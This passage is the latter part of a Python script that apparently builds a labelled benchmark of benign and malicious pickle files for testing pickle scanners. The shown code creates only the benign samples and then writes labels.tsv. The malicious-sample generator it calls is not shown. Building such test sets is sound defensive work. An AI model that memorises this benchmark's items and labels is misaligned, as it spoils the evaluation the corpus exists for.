        ("lof_novelty", neighbors.LocalOutlierFactor(n_neighbors=5, novelty=True).fit(X)),
        ("ellipticenvelope", covariance.EllipticEnvelope(random_state=0).fit(X)),
        ("dictvectorizer", fe.DictVectorizer().fit([{"a": 1, "b": 2}, {"c": 3}])),
        ("featurehasher", fe.FeatureHasher(n_features=8)),
        ("labelbinarizer", pp.LabelBinarizer().fit(["a", "b", "c"])),
        ("multilabelbinarizer", pp.MultiLabelBinarizer().fit([["a", "b"], ["c"]])),
        ("ordinalencoder", pp.OrdinalEncoder().fit([["a", "x"], ["b", "y"]])),
        ("transformedtargetregressor", compose.TransformedTargetRegressor(regressor=lm.LinearRegression(), func=np.log1p, inverse_func=np.expm1).fit(X, np.abs(yr))),
        ("multioutputregressor", multioutput.MultiOutputRegressor(lm.Ridge()).fit(X, np.c_[yr, yr])),
        ("onevsrest", multiclass.OneVsRestClassifier(lm.LogisticRegression()).fit(X, y3)),
        ("classifierchain", multioutput.ClassifierChain(lm.LogisticRegression()).fit(X, np.c_[y, 1 - y])),
        ("hgb_categorical", ensemble.HistGradientBoostingClassifier(max_iter=3, categorical_features=[0]).fit(np.c_[(X[:, 0] * 3).astype(int), X[:, 1:]], y)),
        ("gridsearchcv", ms.GridSearchCV(lm.LogisticRegression(), {"C": [0.1, 1.0]}, cv=2).fit(X, y)),
        ("randomizedsearchcv", ms.RandomizedSearchCV(tree.DecisionTreeClassifier(), {"max_depth": [1, 2, 3]}, n_iter=2, cv=2, random_state=0).fit(X, y)),
        ("functiontransformer_log1p", pp.FunctionTransformer(np.log1p).fit(Xpos)),
        ("hashingvectorizer", fe.text.HashingVectorizer(n_features=16)),
        ("robustscaler", pp.RobustScaler().fit(X)),
        ("maxabsscaler", pp.MaxAbsScaler().fit(X)),
        ("normalizer", pp.Normalizer().fit(X)),
        ("perceptron", lm.Perceptron().fit(X, y)),
        ("passiveaggressive", lm.PassiveAggressiveClassifier().fit(X, y)),
        ("ridgeclassifiercv", lm.RidgeClassifierCV().fit(X, y)),
        ("elasticnetcv", lm.ElasticNetCV(cv=2).fit(X, yr)),
        ("bayesianridge", lm.BayesianRidge().fit(X, yr)),
        ("huberregressor", lm.HuberRegressor().fit(X, yr)),
        ("ransacregressor", lm.RANSACRegressor(random_state=0).fit(X, yr)),
        ("tweedieregressor", lm.TweedieRegressor().fit(X, np.abs(yr))),
        ("gaussianrandomprojection", rp.GaussianRandomProjection(n_components=2).fit(X)),
        ("minibatchkmeans", cluster.MiniBatchKMeans(2, n_init=3, random_state=0).fit(X)),
        ("agglomerative", cluster.AgglomerativeClustering(2).fit(X)),
        ("meanshift", cluster.MeanShift().fit(X)),
        ("mlpregressor", nnw.MLPRegressor((4,), max_iter=20, random_state=0).fit(X, yr)),
        ("bernoullirbm", nnw.BernoulliRBM(n_components=2, n_iter=2, random_state=0).fit(X)),
        ("complementnb", nb.ComplementNB().fit(Xpos, y)),
        ("categoricalnb", nb.CategoricalNB().fit((X * 3).astype(int), y)),
        ("nusvc", svm.NuSVC().fit(X, y)),
        ("labelspreading", ss.LabelSpreading().fit(X, np.where(np.arange(40) % 3 == 0, -1, y))),
        ("isotonic", isotonic.IsotonicRegression().fit(X[:, 0], yr)),
        ("selectfrommodel", fs.SelectFromModel(lm.Lasso(alpha=0.01)).fit(X, yr)),
        ("featureunion", pipeline.FeatureUnion([("pca", dec.PCA(2)), ("svd", dec.TruncatedSVD(2))]).fit(X)),
        ("column_selector_pipeline", pipeline.make_pipeline(compose.ColumnTransformer([("num", pp.StandardScaler(), compose.make_column_selector(dtype_include=np.number))]), lm.LogisticRegression()).fit(pd.DataFrame(X, columns=list("abcd")), y)),
        ("extratree", tree.ExtraTreeClassifier(random_state=0).fit(X, y)),
        ("kneighborstransformer", neighbors.KNeighborsTransformer(n_neighbors=3).fit(X)),
    ]
    for name, e in est:
        ben("sklearn_" + name, e, "fitted scikit-learn %s" % type(e).__name__)

    # ---- xgboost ----
    ben("xgboost_xgbranker", xgb.XGBRanker(n_estimators=3).fit(X, y3, qid=np.repeat([0, 1], 20)), "fitted XGBRanker")
    ben("xgboost_xgbrfclassifier", xgb.XGBRFClassifier(n_estimators=3).fit(X, y), "fitted XGBRFClassifier")
    ben("xgboost_xgbrfregressor", xgb.XGBRFRegressor(n_estimators=3).fit(X, yr), "fitted XGBRFRegressor")
    dtr = xgb.DMatrix(X, label=y)
    evals_result = {}
    booster = xgb.train({"objective": "binary:logistic", "max_depth": 2}, dtr, 4, evals=[(dtr, "train")], evals_result=evals_result, verbose_eval=False)
    ben("xgboost_booster_evalset", booster, "xgboost Booster trained with an eval set")
    ben("xgboost_multiclass_earlystop", xgb.XGBClassifier(n_estimators=20, early_stopping_rounds=2).fit(X, y3, eval_set=[(X, y3)], verbose=False), "XGBClassifier multiclass with early stopping")

    # ---- pandas ----
    pdobjs = [
        ("categorical_ordered", pd.Categorical(["lo", "hi", "mid", "lo"], categories=["lo", "mid", "hi"], ordered=True)),
        ("datetimeindex_freq", pd.date_range("2021-01-01", periods=6, freq="H")),
        ("periodindex", pd.period_range("2020-01", periods=5, freq="M")),
        ("intervalindex", pd.interval_range(0, 5)),
        ("timedeltaindex", pd.timedelta_range("1 day", periods=4)),
        ("categoricalindex", pd.CategoricalIndex(["a", "b", "a"])),
        ("series_tz", pd.Series(pd.date_range("2022-03-01", periods=4, tz="Europe/Berlin"))),
        ("dataframe_multiindex_cols", pd.DataFrame(np.arange(8).reshape(2, 4), columns=pd.MultiIndex.from_product([["x", "y"], ["a", "b"]]))),
        ("booleanarray", pd.array([True, False, None], dtype="boolean")),
        ("integerarray", pd.array([1, None, 3], dtype="Int32")),
        ("floatingarray", pd.array([1.5, None], dtype="Float64")),
        ("stringarray", pd.array(["a", None, "c"], dtype="string")),
        ("sparsearray", pd.arrays.SparseArray([0, 0, 1, 0, 2])),
        ("groupby_agg", pd.DataFrame({"k": list("aabb"), "v": [1, 2, 3, 4]}).groupby("k").agg(["mean", "sum"])),
        ("offset_bday", pd.offsets.BDay(3)),
        ("offset_monthend", pd.offsets.MonthEnd(2)),
        ("offset_week", pd.offsets.Week(weekday=2)),
        ("offset_custombday", pd.offsets.CustomBusinessDay(holidays=["2021-12-25"])),
        ("timestamp_tz", pd.Timestamp("2021-06-01 12:00", tz="US/Eastern")),
        ("interval_scalar", pd.Interval(0.5, 1.5, closed="left")),
        ("dateoffset_months", pd.DateOffset(months=2, days=1)),
        ("rangeindex_step", pd.RangeIndex(0, 100, 7)),
        ("multiindex", pd.MultiIndex.from_tuples([("a", 1), ("b", 2)], names=["l", "n"])),
        ("series_attrs", pd.Series([1, 2], name="s").set_flags(allows_duplicate_labels=False)),
        ("dtypes", [pd.CategoricalDtype(["x", "y"]), pd.DatetimeTZDtype(tz="UTC"), pd.Int64Dtype(), pd.StringDtype(), pd.PeriodDtype("D")]),
        ("dataframe_mixed_nullable", pd.DataFrame({"i": pd.array([1, None], dtype="Int64"), "s": ["x", None], "b": pd.array([True, None], dtype="boolean")})),
        ("interval_array", pd.arrays.IntervalArray.from_breaks([0, 1, 2])),
        ("resample_result", pd.Series(range(10), index=pd.date_range("2021", periods=10, freq="D")).resample("W").sum()),
        ("pivot_table", pd.DataFrame({"a": list("xxyy"), "b": list("pqpq"), "v": range(4)}).pivot_table(index="a", columns="b", values="v")),
    ]
    for name, o in pdobjs:
        ben("pandas_" + name, o, "pandas %s" % name)

    # ---- numpy ----
    npobjs = [
        ("recarray", np.rec.fromrecords([(1, 2.0, "a"), (2, 3.0, "b")], names="x,y,z")),
        ("masked_mask", np.ma.array([1.0, 2.0, 3.0], mask=[False, True, False], fill_value=-1)),
        ("dtype_metadata", np.dtype(np.float64, metadata={"unit": "m"})),
        ("bitgen_states", [np.random.PCG64(1).state, np.random.SFC64(2).state, np.random.Philox(3).state]),
        ("str_bytes_scalars", [np.str_("héllo"), np.bytes_(b"xy"), np.void(b"\x00\x01")]),
        ("datetime64_units", [np.array(["2020-01-01"], dtype="datetime64[%s]" % unit) for unit in ("Y", "M", "D", "h", "ns")]),
        ("object_array_mixed", np.array([1, "a", 2.5, None, (1, 2), {"k": 1}], dtype=object)),
        ("seedsequence", np.random.SeedSequence(12345)),
        ("structured_nested", np.zeros(3, dtype=[("pos", "f4", (3,)), ("meta", [("id", "i8"), ("tag", "S4")])])),
        ("zero_size_and_0d", [np.empty((0, 3)), np.array(5.0), np.array("s")]),
        ("float32_1m", np.arange(1_000_000, dtype=np.float32)),
        ("poly1d", np.poly1d([1, 2, 3])),
        ("polynomial", np.polynomial.Polynomial([1, 2, 3])),
        ("chararray", np.char.array(["ab", "cd"])),
        ("timedelta_scalars", [np.timedelta64(5, "s"), np.datetime64("2021-01-01T00:00"), np.float128(1.5) if hasattr(np, "float128") else 1.5]),
        ("generator_philox", np.random.Generator(np.random.Philox(7))),
        ("complex_fortran", np.asfortranarray(np.arange(6, dtype=np.complex64).reshape(2, 3))),
        ("ufunc_refs", [np.add, np.sqrt, np.log1p]),
    ]
    for name, o in npobjs:
        ben("numpy_" + name, o, "numpy %s" % name)

    # ---- scipy ----
    xs = np.linspace(0, 1, 8)
    spobjs = [
        ("csr_array", scipy.sparse.csr_array(np.eye(4))),
        ("coo_array", scipy.sparse.coo_array(np.eye(3))),
        ("kdtree", scipy.spatial.KDTree(X)),
        ("ckdtree", scipy.spatial.cKDTree(X)),
        ("interp1d", scipy.interpolate.interp1d(xs, xs ** 2)),
        ("cubicspline", scipy.interpolate.CubicSpline(xs, xs ** 3)),
        ("optimizeresult", scipy.optimize.minimize(lambda v: float((v ** 2).sum()), np.ones(2))),
        ("rotation", scipy.spatial.transform.Rotation.from_euler("xyz", [10, 20, 30], degrees=True)),
        ("bspline", scipy.interpolate.make_interp_spline(xs, xs ** 2)),
        ("pchip", scipy.interpolate.PchipInterpolator(xs, xs ** 2)),
    ]
    for name, o in spobjs:
        if name == "optimizeresult":
            o = scipy.optimize.OptimizeResult({k: v for k, v in o.items()})
        ben("scipy_" + name, o, "scipy %s" % name)

    # ---- torch ----
    torch.manual_seed(0)
    tensors = [
        ("float16", torch.randn(4).half()), ("bfloat16", torch.randn(4).bfloat16()), ("int8", torch.arange(-3, 3, dtype=torch.int8)),
        ("uint8", torch.arange(6, dtype=torch.uint8)), ("complex64", torch.randn(3, dtype=torch.complex64)), ("bool", torch.tensor([True, False])),
        ("empty", torch.empty(0, 3)), ("noncontiguous", torch.arange(12.0).reshape(3, 4).t()), ("int16_float64", [torch.arange(3, dtype=torch.int16), torch.randn(2, dtype=torch.float64)]),
        ("parameter", nn.Parameter(torch.randn(2, 2))), ("size_dtype_device", [torch.Size([2, 3]), torch.float32, torch.int64, torch.device("cpu")]),
        ("generator_state", torch.Generator().get_state()), ("sparse_coo", torch.sparse_coo_tensor([[0, 1], [1, 0]], [1.0, 2.0], (2, 2))),
    ]
    for name, o in tensors:
        ben("torch_tensor_" + name, o, "torch %s" % name)
    modules = [
        ("lstm", nn.LSTM(4, 8)), ("gru", nn.GRU(4, 8, batch_first=True)), ("embedding", nn.Embedding(10, 4)), ("layernorm", nn.LayerNorm(4)),
        ("dropout", nn.Dropout(0.3)), ("multiheadattention", nn.MultiheadAttention(8, 2)), ("transformerencoderlayer", nn.TransformerEncoderLayer(8, 2, 16)),
        ("batchnorm1d", nn.BatchNorm1d(4)), ("conv1d", nn.Conv1d(2, 3, 3)), ("conv3d", nn.Conv3d(1, 2, 2)),
        ("modulelist", nn.ModuleList([nn.Linear(2, 2), nn.ReLU()])), ("moduledict", nn.ModuleDict({"a": nn.Linear(2, 2), "b": nn.Tanh()})),
        ("activations", nn.Sequential(nn.GELU(), nn.Sigmoid(), nn.Softmax(dim=-1), nn.LeakyReLU(0.1), nn.SiLU())),
    ]
    for name, o in modules:
        ben("torch_module_" + name, o, "torch.nn %s instance" % type(o).__name__)
    lin = nn.Linear(3, 2)
    for oname, opt in [("adam", torch.optim.Adam(lin.parameters())), ("sgd_momentum", torch.optim.SGD(lin.parameters(), lr=0.1, momentum=0.9)), ("adamw", torch.optim.AdamW(lin.parameters()))]:
        lin(torch.randn(4, 3)).sum().backward()
        opt.step()
        ben("torch_optim_state_" + oname, opt.state_dict(), "%s optimizer state_dict after one step" % oname)
    opt = torch.optim.SGD(lin.parameters(), lr=0.1)
    ben("torch_sched_steplr", torch.optim.lr_scheduler.StepLR(opt, 2).state_dict(), "StepLR state_dict")
    ben("torch_sched_cosine", torch.optim.lr_scheduler.CosineAnnealingLR(opt, 10).state_dict(), "CosineAnnealingLR state_dict")
    ben("torch_sched_onecycle", torch.optim.lr_scheduler.OneCycleLR(opt, max_lr=0.1, total_steps=10).state_dict(), "OneCycleLR state_dict (anneal_func bound method)")

    # ---- stdlib ----
    import time, urllib.parse, http, socket, signal, array, zoneinfo, statistics
    dd = collections.defaultdict(dict)
    dd["a"]["b"] = collections.defaultdict(list, {"x": [1, 2]})
    nested = []
    cur = nested
    for _ in range(500):
        nxt = []
        cur.append(nxt)
        cur = nxt

    class _E(enum.Enum):
        pass

    std = [
        ("ordereddict_lists", collections.OrderedDict((str(i), list(range(i))) for i in range(20))),
        ("nested_defaultdicts", dd),
        ("datetime_zoneinfo", datetime.datetime(2021, 3, 28, 1, 30, tzinfo=zoneinfo.ZoneInfo("Europe/Paris"))),
        ("decimal_values", [decimal.Decimal("1.10"), decimal.Decimal("-0"), decimal.Decimal("NaN"), decimal.Decimal("1E+100")]),
        ("enum_httpstatus", [http.HTTPStatus.OK, http.HTTPStatus.NOT_FOUND]),
        ("enum_regexflag", re.IGNORECASE | re.MULTILINE),
        ("enum_addressfamily", socket.AddressFamily.AF_INET),
        ("enum_signals", signal.Signals.SIGTERM),
        ("pathlib_paths", [pathlib.PurePosixPath("/a/b"), pathlib.PureWindowsPath("C:/x"), pathlib.Path("rel/p")]),
        ("ipaddress_objects", [ipaddress.ip_address("10.0.0.1"), ipaddress.ip_network("192.168.0.0/24"), ipaddress.ip_interface("::1/128")]),
        ("uuid_list", [uuid.UUID(int=i) for i in range(5)]),
        ("array_array", [array.array("d", [1.0, 2.0]), array.array("u", "hi"), array.array("b", [1, -1])]),
        ("simplenamespace", types.SimpleNamespace(a=1, b=[2, 3])),
        ("struct_time", time.gmtime(0)),
        ("parseresult", urllib.parse.urlparse("https://example.org/a?b=c")),
        ("stat_result", os.stat_result((0o644, 1, 2, 1, 0, 0, 10, 0, 0, 0))),
        ("fractions_complex", [fractions.Fraction(3, 7), complex(1, -2), complex("inf")]),
        ("frozenset_tuples", frozenset({(1, 2), (3, 4), ("a", "b")})),
        ("bytes_sizes", [b"", b"\x00", bytes(range(256)), os.urandom(65536)]),
        ("bytearray_1mb", bytearray(os.urandom(1 << 20))),
        ("long_string_10mb", "pbg" * 3_500_000),
        ("unicode_heavy", "ÆØÅ日本語テキスト😀🚀" * 1000 + "\u202e\u200d"),
        ("list_long_first_string", ["lorem ipsum " * 800, 1, 2.5]),
        ("tuple_long_strings", ("a" * 6000, "b" * 6000)),
        ("deep_nested_500", nested),
        ("list_3m_floats", [float(i) * 0.5 for i in range(3_000_000)]),
        ("dict_100k", {("k%d" % i): i for i in range(100_000)}),
        ("counter_chainmap", [collections.Counter("mississippi"), collections.ChainMap({"a": 1}, {"b": 2})]),
        ("userdict_list_string", [collections.UserDict(a=1), collections.UserList([1]), collections.UserString("s")]),
        ("timezone_named", [datetime.timezone(datetime.timedelta(hours=5, minutes=30), "IST"), datetime.date.min, datetime.time(23, 59, fold=1)]),
        ("compiled_regex", re.compile(r"(\w+)@(\w+)\.com", re.I)),
        ("argparse_namespace", __import__("argparse").Namespace(lr=0.1, epochs=3)),
        ("logger_ref", __import__("logging").getLogger("pbg.eval")),
        ("statistics_normaldist", statistics.NormalDist(0, 1)),
        ("range_slice_ellipsis", [range(0, 10, 3), slice(1, None, 2), Ellipsis, NotImplemented]),
        ("big_ints", [2 ** 200, -(2 ** 64), 0, 1 << 31]),
        ("floats_special", [float("nan"), float("-inf"), 5e-324, 1.7976931348623157e308]),
    ]
    force = {"list_long_first_string": 1, "tuple_long_strings": 0}
    for name, o in std:
        ben("stdlib_" + name, o, "stdlib %s" % name, proto=force.get(name))

    # ---- dill / cloudpickle of plain data ----
    import dill, cloudpickle
    plain = {"df": pd.DataFrame({"a": [1, 2]}), "arr": np.arange(5), "od": collections.OrderedDict(x=1)}
    for p in (0, 3, 5):
        ben("dill_plain_mixed", plain, "dill.dumps of a dict with a DataFrame, ndarray and OrderedDict", proto=p, dumper=dill.dumps)
    for p in (1, 4):
        ben("cloudpickle_plain_mixed", {"s": pd.Series([1.0]), "t": torch.ones(2), "d": decimal.Decimal("2.5")}, "cloudpickle.dumps of plain data with a Series, tensor and Decimal", proto=p, dumper=cloudpickle.dumps)
    ben("cloudpickle_sklearn_model", est[0][1], "cloudpickle.dumps of a fitted Nystroem", proto=5, dumper=cloudpickle.dumps)
    ben("dill_torch_state_dict", nn.Linear(2, 2).state_dict(), "dill.dumps of a torch Linear state_dict", proto=4, dumper=dill.dumps)


def main():
    global OUT
    if len(sys.argv) != 2:
        raise SystemExit(__doc__)
    OUT = sys.argv[1]
    for sub in ("malicious", "benign"):
        os.makedirs(os.path.join(OUT, sub), exist_ok=True)
        for f in os.listdir(os.path.join(OUT, sub)):
            os.remove(os.path.join(OUT, sub, f))
    random.seed(1234)
    sys.setrecursionlimit(20000)
    make_malicious()
    make_benign()
    with open(os.path.join(OUT, "labels.tsv"), "w") as f:
        f.write("path\tlabel\ttechnique\tdescription\n")
        for row in LABELS:
            f.write("\t".join(row) + "\n")
    nm = sum(1 for r in LABELS if r[1] == "malicious")
    print("wrote %d malicious, %d benign to %s" % (nm, len(LABELS) - nm, OUT))


if __name__ == "__main__":
    main()
